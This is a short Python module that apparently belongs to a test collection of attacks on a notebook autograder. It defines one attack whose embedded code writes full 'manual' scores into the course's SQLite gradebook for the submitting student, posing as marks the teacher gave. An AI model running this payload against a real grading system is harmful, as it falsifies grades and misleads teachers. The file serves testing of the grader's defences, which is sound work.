"""Writes full marks for itself into the gradebook, as a teacher's hand-given points."""

from attacks.attack import Attack

ATTACK = Attack(
    __doc__,
    nl="Schrijft zichzelf alle punten toe in het cijferboek, als punten die de docent gaf.",
    code="""
import sqlite3
with sqlite3.connect(COURSE / "gradebook.db") as gradebook:
    gradebook.execute(
        "update grade set manual_score = 3 where notebook_id in (select n.id"
        " from submitted_notebook n join submitted_assignment a on a.id = n.assignment_id"
        " where a.student_id = ?)", [NAME])
""",
    alone=True,
)
